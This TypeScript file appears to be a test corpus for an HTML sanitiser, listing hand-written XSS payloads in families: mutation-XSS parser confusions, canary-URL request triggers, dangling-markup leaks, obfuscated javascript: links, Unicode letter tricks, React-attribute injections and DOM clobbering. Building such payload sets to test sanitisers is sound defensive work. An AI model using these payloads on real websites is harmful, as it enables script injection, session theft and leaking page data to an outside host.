/**
 * Payloads that were written one by one, against this sanitiser, these bounds and this page; none comes from the grammar of
 * the other families. Each is tried as it is, and once more after so many elements that the HTML is rewritten first.
 */
import type { Form } from './corpus.ts';

/** Texts that a parser, a sanitiser and a second parser understand differently. */
const confusions: readonly Form[] = [
  ({ call }) =>
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x: onerror=${call}>">`,
  ({ call }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${call}&gt;">`,
  ({ call }) =>
    `<math><foo-test><mi><li><table><foo-test><li></li></foo-test><a><style><! \${</style>}<foo-b id="><img src=x: onerror=${call}>">`,
  ({ call }) => `<svg><title><![CDATA[</title><img src=x: onerror=${call}>]]></svg>`,
  ({ call }) => `<svg><style><a title="&lt;/style>&lt;img src=x: onerror=${call}>">`,
  ({ call }) => `<svg><foreignObject><math><mi><svg><style><img src=x: onerror=${call}></style></svg>`,
  ({ call }) => `<math><ms><b><style><mglyph><img src=x: onerror=${call}></mglyph></style>`,
  ({ call }) =>
    `<math><annotation-xml encoding=TEXT/html><noembed><a title="</noembed><img src=x: onerror=${call}>">`,
  ({ call }) => `<noscript><style></noscript><img src=x: onerror=${call}></style>`,
  ({ call }) => `<noscript><math><mtext></noscript><img src=x: onerror=${call}>`,
  ({ call }) =>
    `<template><s><template><s><img src=x: onerror=${call}>@shafigullin</s></template></s></template>`,
  ({ call }) =>
    `<p><template shadowrootmode=open shadowrootclonable><img src=x: onerror=${call}></template></p>`,
  ({ call }) =>
    `<select><button><selectedcontent></selectedcontent></button><option selected><img src=x: onerror=${call}></select>`,
  ({ call }) => `<select><datalist><img src=x: onerror=${call}></datalist></select>`,
  ({ call }) => `<table><input type=hidden><svg><desc></table><img src=x: onerror=${call}>`,
  ({ call }) => `<table><colgroup><template><col onerror=${call}></template><img src=x: onerror=${call}>`,
  ({ call }) => `<a href=/><b><a href=/><table><a href=/><i><img src=x: onerror=${call}></a></table></b>`,
  ({ call }) => `<nobr><p><nobr><svg><nobr><style><img src=x: onerror=${call}>`,
  ({ call }) => `<frameset onload=${call}><noframes></frameset><img src=x: onerror=${call}>`,
  ({ call }) => `<ruby><rtc><rp><svg></rp><style><img src=x: onerror=${call}>`,
  ({ call }) => `<body><body onpageshow=${call}><html onpointerdown=${call}>`,
  ({ call }) => `<image src=x: onerror=${call}><isindex type=image src=x: onerror=${call}>`,
  ({ call }) => `<svg><image src=x: href=x: onerror=${call}></svg></image>`,
  ({ call }) => `<br/><svg/><p/><style/><img src=x: onerror=${call}></style>`,
  ({ call }) => `<p title=a'b"><img src=x: onerror=${call}>`,
  ({ call }) => `<p title="a" "><img src=x: onerror=${call}>">words</p>`,
  ({ call }) => `<p =">" onclick=${call}>words</p>`,
  ({ call }) => `<p a=">"b='>'c=> onclick=${call}>words</p>`,
  ({ call }) => `<!-- a --!><img src=x: onerror=${call}><!-- b -->`,
  ({ call }) => `<!-->--><img src=x: onerror=${call}>`,
  ({ call }) => `<!--->--><img src=x: onerror=${call}>`,
  ({ call }) => `<!--<!--><img src=x: onerror=${call}>-->`,
  ({ call }) => `<!doctype html "><img src=x: onerror=${call}>">`,
  ({ call }) => `<?php echo "?><img src=x: onerror=${call}>"?>`,
  ({ call }) => `</p title="><img src=x: onerror=${call}>">`,
  ({ call }) => `</3 title="><img src=x: onerror=${call}>">`,
  ({ call }) => `<3 title="><img src=x: onerror=${call}>">`,
  ({ call }) => `<p:a title="x><img src=x: onerror=${call}>">words</p:a>`,
  ({ call }) => `<p\u000conclick=${call}>words</p>`,
  ({ call }) => `<td onclick=${call}>words<tr onclick=${call}><caption onclick=${call}>words`,
];

/** Texts that make a request. */
const requests: readonly Form[] = [
  ({ canary }) => `<img sizes=auto loading=lazy src=/none srcset="${canary} 1w">`,
  ({ canary }) => `<img src="/api/image/albums/mount-1.svg" srcset=",${canary} 1x,," alt=words>`,
  ({ canary }) => `<img crossorigin=use-credentials referrerpolicy=unsafe-url src="${canary}" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https://', 'https:')}" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https://', 'https:\\/\\')}" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https://', '/&Tab;/')}" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https://', '/\u00a0/')}" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https://', '/.//')}" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https://', 'https://[::1]@')}" alt=words>`,
  ({ canary }) =>
    `<link rel=modulepreload href="${canary}"><link rel=expect blocking=render href="#${canary}">`,
  ({ canary }) =>
    `<link rel="alternate stylesheet" title=x href="${canary}"><link rel=search href="${canary}">`,
  ({ canary }) => `<link rel=preload as=image imagesrcset="${canary} 1x" imagesizes=1px>`,
  ({ canary }) => `<link rel=prerender href="${canary}"><link rel=subresource href="${canary}">`,
  ({ canary }) => `<p style="background:u\\72l(${canary})">words</p>`,
  ({ canary }) => `<p style="--x:url(${canary});background:var(--x)">words</p>`,
  ({ canary }) =>
    `<p style="background:src('${canary}');mask:url(${canary}#m);clip-path:url(${canary}#c)">words</p>`,
  ({ canary }) =>
    `<p style="filter:url(${canary}#f);offset-path:url(${canary}#o);shape-outside:url(${canary})">words</p>`,
  ({ canary }) => `<p style='background:cross-fade(url("${canary}"),url(/none))'>words</p>`,
  ({ canary }) => `<style>@namespace url(${canary});@layer a;@import/**/'${canary}'supports(x:y);</style>`,
  ({ canary }) =>
    `<style>:root{--x:url(${canary})}@property --y{syntax:'<url>';inherits:true;initial-value:url(${canary})}</style>`,
  ({ canary }) =>
    `<svg><use href="${canary}#x"/><linearGradient href="${canary}#x"/><textPath href="${canary}#x"/></svg>`,
  ({ canary }) =>
    `<svg><animateMotion><mpath href="${canary}#x"/></animateMotion><cursor href="${canary}"/></svg>`,
  ({ canary }) =>
    `<svg><font-face><font-face-src><font-face-uri href="${canary}"/></font-face-src></font-face></svg>`,
  ({ canary }) => `<svg><animate attributeName=href values="${canary}"><image href="/none"/></svg>`,
  ({ canary }) => `<object type=image/svg+xml data="${canary}"><param name=src value="${canary}"></object>`,
  ({ canary }) =>
    `<video controls><track kind=captions default src="${canary}"></video><bgsound src="${canary}">`,
  ({ canary }) => `<applet archive="${canary}" codebase="${canary}"></applet><embed pluginspage="${canary}">`,
  ({ canary }) => `<a href="/News" attributionsrc="${canary}" ping="/ ${canary}">go</a>`,
  ({ canary }) => `<model src="${canary}"></model><fencedframe config="${canary}"></fencedframe>`,
  ({ canary }) => `<html manifest="${canary}"><head profile="${canary}"><q cite="${canary}">words</q>`,
];

/** What takes along all that follows up to its next quote. */
const dangling: readonly Form[] = [
  ({ canary }) => `<img src='${canary}?`,
  ({ canary }) => `<img alt=words src="${canary}?`,
  ({ canary }) => `<a href="${canary}?">go</a><a href='${canary}?`,
  ({ canary }) => `<base target='<a href="${canary}">go</a>`,
  ({ canary }) => `<form action=${canary}><textarea name=x>`,
  ({ canary }) => `<form action=${canary}><button>go</button><select name=x><option>`,
  ({ canary }) => `<meta http-equiv=refresh content='0;url=${canary}?`,
  ({ canary }) => `<table background='${canary}?`,
  ({ canary }) => `<link rel=stylesheet href='${canary}?`,
  ({ canary }) => `<style>@import '${canary}?`,
  ({ canary }) => `<iframe src=${canary} name='`,
  ({ canary }) => `<svg><image href='${canary}?`,
  () => `words<!--`,
  () => `words<plaintext>`,
  () => `words<xmp>`,
  () => `words<script>`,
  () => `words<a title='`,
  () => `words</main></div></body></html><p`,
];

/** Addresses that are read in another way than they look. */
const addresses: readonly Form[] = [
  ({ call }) => `<a href="javascript\u000b:${call}">go</a><a href="\u0019javascript:${call}">go</a>`,
  ({ call }) => `<a href="&#x6a&#x61vascript&#58${call}">go</a>`,
  ({ call }) => `<a href="javascript&#x3a;&NewLine;${call}">go</a>`,
  ({ call }) => `<a href="\u2028javascript:${call}">go</a><a href="\u3000javascript:${call}">go</a>`,
  ({ call }) => `<a href="java\u00adscript:${call}">go</a><a href="\u200ejavascript:${call}">go</a>`,
  ({ call }) => `<a href="feed:javascript:${call}">go</a><a href="view-source:javascript:${call}">go</a>`,
  ({ call }) =>
    `<a href="about:blank#<script>${call}</script>">go</a><a href="blob:null/javascript:${call}">go</a>`,
  ({ call }) =>
    `<a href="data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='${call}'/>">go</a>`,
  ({ call }) =>
    `<a href="#" href="javascript:${call}">go</a><a HREF=# xlink:href="javascript:${call}">go</a>`,
  ({ call }) => `<a href=javascript:${call} title="\`" x=\`>go</a>`,
  ({ call }) => `<a href="https://javascript:${call}@localhost">go</a><a href="//javascript:${call}">go</a>`,
  ({ call }) =>
    `<form id=f action="javascript:${call}"></form><button form=f>go</button><input form=f type=image>`,
  ({ call }) => `<form method=dialog action="javascript:${call}"><button formmethod=get>go</button></form>`,
  ({ call }) =>
    `<a href="/" target="javascript:${call}">go</a><base href="javascript:/a/-${call}//"><a href="#">go</a>`,
  ({ call }) =>
    `<iframe srcdoc="&lt;a href=&quot;javascript:parent.${call}&quot; autofocus onfocus=parent.${call}&gt;"></iframe>`,
];

/** Letters that become others. */
const letters: readonly Form[] = [
  ({ call }) => `<\u017fcript>${call}</\u017fcript><\u0131mg src=x: onerror=${call}>`,
  ({ call }) => `<lin\u212a rel=stylesheet href="data:text/css,*{color:red}" onload=${call}>`,
  ({ call }) => `<p o\u006eclic\u212a=${call} on\u017felect=${call}>words</p>`,
  ({ call }) => `\uff1cimg src=x: onerror=${call}\uff1e\ufe64script\ufe65${call}\ufe64/script\ufe65`,
  ({ call }) => `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  ({ call }) => `<img src=x:\u0000 onerror=${call}><im\u0000g src=x: onerror=${call}>`,
  ({ call }) => `<img\u00a0src=x:\u00a0onerror=${call}><img\u2028src=x:\u2028onerror=${call}>`,
  ({ call }) => `<p title="\ud800"><img src=x: \udc00 onerror=${call}>\ud83d`,
  ({ call }) => `&amp;lt;img src=x: onerror=${call}&amp;gt;&ltimg src=x: onerror=${call}&gt`,
  ({ call }) => `&#x3c;img src=x: onerror=${call}&#62;&#0000060;img src=x: onerror=${call}>`,
];

/** Texts that a program which makes React elements of HTML might take for its own. */
const elements: readonly Form[] = [
  ({ call }) =>
    `<p dangerouslysetinnerhtml="{__html:'<img src=x: onerror=${call}>'}" children="${call}">words</p>`,
  ({ call }) =>
    `<p key=a ref=${call} is=x-own suppresshydrationwarning style="a:b" class=c classname=d>words</p>`,
  ({ call }) =>
    `<input value=words checked autofocus onfocus=${call}><textarea>words</textarea><select multiple>`,
  ({ call }) =>
    `<p data-island=news data-hydrate=load data-key=${call} data-content data-shared=x data-slot=y>words</p>`,
  ({ call }) =>
    `<script type=application/json id=page>{"build":"x","paths":["/"],"blocks":"${call}"}</script>`,
  ({ call }) => `<a href="/api/image/words" onmouseover=${call}>go</a><a href="/fragments/News.html">go</a>`,
  () => `<table><td colspan=99999999 rowspan=65534>words</table><ol start=-2147483649><li>words</ol>`,
  () => `<img src="/api/image/albums/mount-1.svg" alt="" width=99999999 height=99999999>`,
  () => `<p lang="x'\\"></p>" dir=rtl title="a&#10;b">\u202ewords</p><p dir=auto lang=>words</p>`,
];

/** Names of the page, of the window and of what a sanitiser itself asks for. */
const owned =
  'page content news contact search newsletter title-tag hits app parentNode attributes childNodes nodeName ' +
  'nodeType removeChild firstChild nextSibling textContent innerHTML content ownerDocument style hasAttribute ' +
  'remove removeAttribute getAttributeNode namespaceURI shadowRoot insertBefore cloneNode isConnected';
const names: readonly Form[] = owned
  .split(' ')
  .flatMap((name): Form[] => [
    ({ call }) => `<form><input name=${name}><img src=x: onerror=${call}></form>`,
    () => `<form id=${name}><input id=${name} name=${name}></form><a id=${name} name=${name} href=/>go</a>`,
  ]);

/** After so many elements HTML is bounded, and written anew for it. */
const rewritten =
  (form: Form): Form =>
  (voice) =>
    '<br>'.repeat(200) + form(voice);

const families = {
  confusion: confusions,
  request: requests,
  dangling,
  address: addresses,
  letter: letters,
  element: elements,
  clobber: names,
};

export const payloadsByHand: Record<string, readonly Form[]> = Object.fromEntries(
  Object.entries(families).flatMap(([family, forms]) => [
    [family, forms],
    [`${family}-rewritten`, forms.map(rewritten)],
  ]),
);
